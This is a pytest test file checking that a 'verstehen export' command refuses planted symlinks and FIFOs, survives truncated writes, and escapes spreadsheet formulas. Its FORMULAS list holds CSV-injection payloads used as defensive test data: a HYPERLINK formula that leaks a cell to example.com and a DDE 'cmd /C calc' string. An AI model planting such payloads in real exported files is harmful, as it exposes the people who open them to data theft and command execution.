"""`verstehen export` writes its files the one way (issue 43): a link planted at an output path
(CSV, Parquet, Inspect log) is refused in one line, exit 2, its target untouched (they used to
be written through); a FIFO there is refused at once (the CSV export used to wait on it for
ever); a write the disk cuts short leaves the previous file (the CSV used to be left cut); and
a reply a spreadsheet would run as a formula is written as text."""

from __future__ import annotations

import csv
import io
import json
import os
import re
import resource
import signal
import subprocess
import time
from pathlib import Path

import pytest
from engine.test_run_folder_safety import VICTIM_TEXT, link, rescued

import verstehen as vs
from verstehen.methods.certification.example import calculator
from verstehen.testing.scripted import ScriptedModel

from conftest import PYTHON, Cli, cli_error

# replies a spreadsheet would run (or read as a command), and one that is a number
FORMULAS = ('=HYPERLINK("http://example.com/?leak="&A1,"click")', "+1+cmd|' /C calc'!A0",
            "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "'=quoted already")
NEGATIVE = "-12"


def formula_or_right(prompt: str) -> str:
    """A formula for some questions, -12 for some, the right number for the rest."""
    pick = sum(map(ord, prompt)) % (len(FORMULAS) + 2)
    return FORMULAS[pick] if pick < len(FORMULAS) else NEGATIVE if pick == len(FORMULAS) \
        else calculator(prompt)


@pytest.fixture(scope="module")
def run(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A finished certify run of 60 questions whose replies hold every formula."""
    base = tmp_path_factory.mktemp("safely")
    result = vs.certify(ScriptedModel("scripted/formulas", reply=formula_or_right),
                        "arithmetic/small", questions=60, rephrase=0, pg=0.6, rid=0.3,
                        runs_dir=base / "runs", cache=base / "calls.sqlite")
    return result.run_dir


@pytest.fixture
def victim(tmp_path: Path) -> Path:
    """A file outside the export folder that a planted link points to."""
    path = tmp_path / "elsewhere" / "victim.txt"
    path.parent.mkdir()
    path.write_text(VICTIM_TEXT)
    return path


@pytest.mark.parametrize(("flags", "name"), [
    (["--format", "csv"], "{run}-records.csv"), (["--format", "csv"], "{run}-results.csv"),
    (["--format", "parquet"], "{run}-records.parquet"), (["--inspect"], "{run}.eval")])
def test_a_link_at_an_export_path_is_refused_and_its_target_kept(cli: Cli, run: Path,
                                                                  victim: Path, tmp_path: Path,
                                                                  flags: list[str], name: str):
    """A link planted where export writes: one line naming it, exit 2, the target as it was
    (it used to be overwritten with the export)."""
    if "--format" not in flags:
        pytest.importorskip("inspect_ai")
    elif "parquet" in flags:
        pytest.importorskip("pyarrow")
    out = tmp_path / "out"
    out.mkdir()
    planted = out / name.format(run=run.name)
    link(planted, victim)
    cli_error(cli, ["export", str(run), *flags, "-o", str(out)], str(planted),
              "is a symbolic link", "remove it")
    assert victim.read_text() == VICTIM_TEXT
    assert planted.is_symlink()


def test_a_fifo_at_the_csv_path_is_refused_at_once(cli: Cli, run: Path, tmp_path: Path):
    """A FIFO where the records CSV goes: refused in one line within a second or so (export
    used to wait for a reader for ever; a rescuer opens one after 5 s so that it fails)."""
    out = tmp_path / "out"
    out.mkdir()
    fifo = out / f"{run.name}-records.csv"
    os.mkfifo(fifo)
    start = time.monotonic()
    with rescued(fifo, after=5):
        cli_error(cli, ["export", str(run), "--format", "csv", "-o", str(out)],
                  str(fifo), "is a FIFO")
    assert time.monotonic() - start < 4


def test_a_write_the_disk_cuts_short_leaves_the_previous_csv(run: Path, tmp_path: Path,
                                                             cli_env: dict[str, str]):
    """A file-size limit (as a full disk) stops the records CSV half-way: the previous CSV is
    still there byte for byte, no temporary file is left, and one line says why (the CSV used
    to be left cut at the limit, a valid CSV silently short)."""
    out = tmp_path / "out"
    out.mkdir()
    records = out / f"{run.name}-records.csv"
    previous = b"id,reply\nearlier,export\n"
    records.write_bytes(previous)
    limit = 4096
    assert len((run / "records.jsonl").read_bytes()) > 4 * limit

    def small_files() -> None:
        signal.signal(signal.SIGXFSZ, signal.SIG_IGN)  # write fails with EFBIG instead
        resource.setrlimit(resource.RLIMIT_FSIZE, (limit, limit))

    done = subprocess.run([PYTHON, "-m", "verstehen", "export", str(run), "--format", "csv",
                           "-o", str(out)], env=cli_env, capture_output=True, text=True,
                          timeout=120, preexec_fn=small_files)
    assert done.returncode == 2, done.stderr
    assert done.stderr.strip().splitlines() == [
        f"verstehen: error: cannot write {records} (File too large): remove it, or pass --out "
        "with another folder"]
    assert records.read_bytes() == previous
    assert sorted(p.name for p in out.iterdir()) == [records.name]


def cells(path: Path) -> list[dict[str, str]]:
    """The rows of a CSV, read by the standard library (as a spreadsheet would read text)."""
    return list(csv.DictReader(io.StringIO(path.read_bytes().decode("utf-8"), newline="")))


def test_a_formula_reply_is_written_as_text_and_numbers_stay_numbers(cli: Cli, run: Path,
                                                                     tmp_path: Path):
    """Each reply starting with =, +, -, @, a tab or a CR (or a ') is written behind a ';
    -12 and the calculator's negative answers, numbers, are written as they are; the score
    column holds plain numbers."""
    replies = [json.loads(line)["text"]
               for line in (run / "records.jsonl").read_text().splitlines() if line]
    assert set(replies) >= {*FORMULAS, NEGATIVE}
    done = cli(["export", str(run), "--format", "csv", "-o", str(tmp_path)])
    assert done.returncode == 0, done.stderr
    rows = cells(tmp_path / f"{run.name}-records.csv")
    assert len(rows) == len(replies)
    written = {row["reply"] for row in rows}
    assert {"'" + f for f in FORMULAS} <= written
    assert not written & set(FORMULAS)
    assert NEGATIVE in written
    for row in rows:
        assert 0.0 <= float(row["score"]) <= 1.0
        assert not row["reply"].startswith(("=", "+", "@", "\t", "\r")), row["reply"]
        assert not row["reply"].startswith("-") or re.fullmatch(r"-[0-9]+(\.[0-9]+)?",
                                                                row["reply"]), row["reply"]


def test_the_parquet_export_keeps_replies_as_they_are(cli: Cli, run: Path, tmp_path: Path):
    """Parquet is no spreadsheet's text: its replies are the records' own, formula or not."""
    parquet = pytest.importorskip("pyarrow.parquet")
    done = cli(["export", str(run), "--format", "parquet", "-o", str(tmp_path)])
    assert done.returncode == 0, done.stderr
    table = parquet.read_table(tmp_path / f"{run.name}-records.parquet").to_pydict()
    assert set(table["reply"]) >= set(FORMULAS)
